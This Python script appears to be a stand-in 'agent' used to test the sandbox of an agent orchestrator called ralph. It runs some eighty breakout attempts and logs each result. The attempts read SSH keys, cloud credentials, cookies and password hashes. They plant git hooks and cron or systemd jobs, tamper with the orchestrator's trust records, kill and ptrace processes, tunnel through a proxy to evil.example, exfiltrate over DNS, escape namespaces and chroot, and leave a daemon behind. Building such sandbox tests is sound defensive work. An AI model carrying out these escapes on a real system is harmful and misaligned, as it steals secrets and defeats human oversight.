"""Attempts to leave the sandbox. Prints what it could read; the test judges the effects from outside."""

import ctypes
import json
import os
import signal
import socket
import subprocess
import sys
import time

while not os.path.exists("facts.json"):
    time.sleep(0.01)
facts = json.load(open("facts.json"))
libc = ctypes.CDLL(None, use_errno=True)
home, state = facts["home"], facts["state"]
attempts = []


def attempt(function):
    attempts.append(function)
    return function


def system_call(number, *arguments):
    result = libc.syscall(number, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def write(path, text="broken out\n"):
    with open(path, "a") as file:
        file.write(text)


def show(path):
    print(open(path, errors="replace").read())


def tcp(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(1)
        client.connect(address)
        client.sendall(b"broken out")


def unix(path):
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(1)
        client.connect(path)
        client.sendall(b"broken out")


@attempt
def read_ssh_key(): show(f"{home}/.ssh/id_ed25519")
@attempt
def authorize_ssh_key(): write(f"{home}/.ssh/authorized_keys")
@attempt
def read_gpg_key(): show(f"{home}/.gnupg/secret")
@attempt
def read_cloud_key(): show(f"{home}/.aws/credentials")
@attempt
def read_browser_cookies(): show(f"{home}/.mozilla/cookies")
@attempt
def change_shell_start(): write(f"{home}/.bashrc")
@attempt
def create_start_file(): write(f"{home}/.profile-new")
@attempt
def change_user_configuration(): write(f"{home}/.config/ralph/ralph.yml")
@attempt
def change_sibling_repository(): write(facts["sibling"] + "/file")
@attempt
def plant_git_hook(): write(".git/hooks/pre-commit", "#!/bin/sh\n")
@attempt
def rename_git_hooks(): os.rename(".git/hooks", ".git/old-hooks")
@attempt
def rename_git_directory(): os.rename(".git", "old-git")
@attempt
def change_git_configuration(): write(".git/config", "[core]\n\thooksPath = /evil\n")
@attempt
def set_hooks_path(): subprocess.run(["git", "config", "core.hooksPath", "/evil"], check=True)
@attempt
def replace_git_configuration():
    write("new-config", "[core]\n\thooksPath = /evil\n")
    os.rename("new-config", ".git/config")
@attempt
def change_ralph_configuration(): write("ralph.yml", "hooks: {on_fail: 'echo broken out'}\n")
@attempt
def change_hook_script(): write("notify.sh", "echo broken out\n")
@attempt
def append_to_journal(): write(facts["run"] + "/events.jsonl", "{}\n")
@attempt
def read_ralphs_state(): show(state + "/trust/decisions")
@attempt
def change_trust(): write(state + "/trust/decisions")
@attempt
def delete_snapshots():
    os.rename(state + "/projects", state + "/old")
    os.rename(state + "/old", state + "/projects")
@attempt
def stop_the_run_by_command():
    inbox = os.environ["RALPH_INBOX"]
    write(inbox + "/00000000000000000001-stop.json", json.dumps({"version": 1, "id": "x", "kind": "stop"}))
@attempt
def replace_ralph(): write(facts["ralph"])
@attempt
def add_program(): write(facts["bin"] + "/git-evil")
@attempt
def kill_ralph(): os.kill(facts["pid"], signal.SIGKILL)
@attempt
def kill_everything(): os.kill(-1, signal.SIGHUP)
@attempt
def kill_victim(): os.kill(facts["victim"], signal.SIGKILL)
@attempt
def trace_victim():
    for pid in range(1, facts["victim"] + 1):
        if pid not in (1, os.getpid()) and libc.ptrace(16, pid, 0, 0) == 0:
            libc.ptrace(8, pid, 0, 0)
@attempt
def write_memory_of_ralph(): open(f"/proc/{facts['pid']}/mem", "r+b")
@attempt
def read_environment_of_ralph():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            text = open(f"/proc/{pid}/environ", errors="replace").read()
        except OSError:
            continue
        if "RALPH_ITERATION" not in text:
            print(text)
@attempt
def connect_to_abstract_socket(): unix("\0" + facts["abstract"])
@attempt
def connect_to_service_socket(): unix(facts["service"])
@attempt
def connect_to_x11(): unix(facts["x11"])
@attempt
def connect_to_session_bus(): unix(os.environ.get("BUS", "/run/user/0/bus"))
@attempt
def connect_by_tcp(): tcp(socket.AF_INET, ("127.0.0.1", facts["tcp"]))
@attempt
def connect_by_ipv6(): tcp(socket.AF_INET6, ("::1", facts["tcp"]))
@attempt
def connect_to_another_host_on_the_port_of_the_proxy(): tcp(socket.AF_INET, (facts["other_host"], 3128))
@attempt
def send_by_udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"broken out", ("127.0.0.1", facts["udp"]))
@attempt
def send_by_dns():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\0\0\1\0\1", (facts["other_host"], facts["udp"]))
@attempt
def send_raw_packets():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sender:
        sender.sendto(b"broken out", ("127.0.0.1", 0))
@attempt
def tunnel_through_the_proxy():
    for host in ("127.0.0.1", "localhost", "[::1]", "2130706433", "0.0.0.0", "evil.example"):
        with socket.create_connection(("127.0.0.1", 3128), 2) as client:
            client.sendall(f"CONNECT {host}:{facts['tcp']} HTTP/1.1\r\n\r\nbroken out".encode())
            print(client.recv(200))
@attempt
def write_through_a_link():
    os.symlink(f"{home}/.bashrc", "link")
    write("link")
@attempt
def write_through_a_hard_link():
    os.link(f"{home}/.bashrc", "hard-link")
    write("hard-link")
@attempt
def hard_link_the_git_configuration():
    os.link(".git/config", "config-link")
    write("config-link")
@attempt
def mount_over(): check(libc.mount(b"none", b"/etc", b"tmpfs", 0, None))
@attempt
def remount_writable(): check(libc.mount(None, b"/", None, 0x20 | 0x1000, None))
@attempt
def unmount_protection(): check(libc.umount2(os.path.abspath(".git/hooks").encode(), 2))
@attempt
def bind_in_new_namespaces():
    script = f"mount --bind {home} /mnt; mount -o remount,rw,bind /mnt; mount -o remount,rw /; umount {os.getcwd()}/.git/config; " \
        f"echo x >> /mnt/.bashrc; echo x >> {home}/.bashrc; echo x >> .git/config; cat {home}/.ssh/id_ed25519"
    print(subprocess.run(["unshare", "-r", "-m", "sh", "-c", script], capture_output=True).stdout)
@attempt
def enter_namespaces_of_ralph():
    descriptor = os.open(f"/proc/{facts['pid']}/ns/mnt", os.O_RDONLY)
    check(libc.setns(descriptor, 0))
@attempt
def io_uring():
    parameters = ctypes.create_string_buffer(120)
    os.close(system_call(425, 4, parameters))
    write(f"{home}/.bashrc")
@attempt
def become_root_by_a_setuid_program():
    subprocess.run(["sh", "-c", f"su -c 'echo x >> {home}/.bashrc' || sudo -n sh -c 'echo x >> {home}/.bashrc'"], timeout=5)
@attempt
def schedule_by_cron(): write("/var/spool/cron/crontabs/" + facts["mark"])
@attempt
def schedule_by_systemd(): write("/etc/systemd/system/" + facts["mark"] + ".service")
@attempt
def run_by_systemd(): subprocess.run(["systemd-run", "touch", f"{home}/by-systemd"], timeout=5)
@attempt
def schedule_by_at(): subprocess.run(f"echo touch {home}/by-at | at now", shell=True, timeout=5)
@attempt
def read_shared_memory(): show("/dev/shm/" + facts["mark"])
@attempt
def write_shared_memory(): write("/dev/shm/" + facts["mark"])
@attempt
def attach_shared_memory():
    segment = libc.shmget(facts["segment"], 0, 0)
    check(segment)
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(segment, None, 0)
    print(ctypes.string_at(address, 20))
    ctypes.memmove(address, b"broken out", 10)
@attempt
def set_core_pattern(): write("/proc/sys/kernel/core_pattern", "|/evil")
@attempt
def trigger_system_request(): write("/proc/sysrq-trigger", "s")
@attempt
def set_uevent_helper(): write("/sys/kernel/uevent_helper", "/evil")
@attempt
def read_disk():
    for line in open("/proc/partitions").read().split("\n")[2:]:
        name = line.split()[-1:]
        if name:
            print(len(open(f"/dev/{name[0]}", "rb").read(512)))
            print("the disk is readable")
@attempt
def make_disk_node():
    os.mknod("disk", 0o600 | 0o060000, os.makedev(254, 0))
    print(len(open("disk", "rb").read(512)))
    print("the disk is readable")
@attempt
def read_password_hashes(): show("/etc/shadow")
@attempt
def leave_root_directory():
    os.chroot("/usr")
    show("/../" + home + "/.ssh/id_ed25519")
@attempt
def put_characters_into_the_terminal():
    import fcntl
    fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x5412, b"x")
@attempt
def load_a_kernel_module(): system_call(313, -1, b"", 0)
@attempt
def start_tmux_server(): subprocess.run(["tmux", "-L", facts["mark"], "new-session", "-d", "sleep 1000"], timeout=5)
@attempt
def leave_a_daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.environ.clear()
            os.execvp("sh", ["sh", "-c", f": {facts['mark']}; trap '' TERM HUP; while :; do sleep 1; done"])
        os._exit(0)


def check(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


for function in attempts:
    if function is kill_everything:
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
    try:
        function()
        outcome = "no error"
    except BaseException as error:
        outcome = f"{type(error).__name__}: {error}"
    print(f"attempt {function.__name__}: {outcome}", flush=True)
print("work done in the project")
open("done.txt", "w").write("done\n")
subprocess.run(["git", "add", "done.txt"], check=True)
subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b.c", "commit", "-qm", "done"], check=True)
subprocess.run(["ralph", "emit", "work.done", "ready"], check=True)
# Ralph removes it after the agent.
write(".git/commondir", "../evil\n")
